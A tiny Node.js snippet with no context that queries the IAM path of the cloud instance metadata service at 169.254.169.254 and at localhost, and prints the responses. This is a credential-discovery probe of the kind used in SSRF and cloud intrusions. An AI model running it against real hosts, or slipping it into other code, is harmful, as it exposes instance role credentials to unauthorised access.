const http = require('http');
const hosts = ['localhost', '169.254.169.254'];
for (const host of hosts) http.get({ host, path: '/latest/meta-data/iam/' }, (answer) => answer.pipe(process.stdout));
